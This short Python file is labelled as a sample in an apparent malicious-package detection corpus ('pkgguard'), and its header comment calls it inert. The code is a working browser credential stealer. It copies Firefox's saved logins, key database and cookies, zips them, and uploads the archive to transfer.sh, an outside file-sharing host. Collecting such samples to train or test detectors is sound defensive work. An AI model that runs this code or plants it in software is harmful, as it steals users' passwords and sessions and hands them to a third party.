# pkgguard corpus 141 (browser-data), modelled on [empirical]; inert, never run.
import glob
import os
import shutil
import tempfile
import requests

profiles = glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*"))
out = tempfile.mkdtemp()
for profile in profiles:
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        src = os.path.join(profile, name)
        if os.path.exists(src):
            shutil.copy(src, out)
archive = shutil.make_archive(out, "zip", out)
requests.put("https://transfer.sh/f.zip", data=open(archive, "rb"))
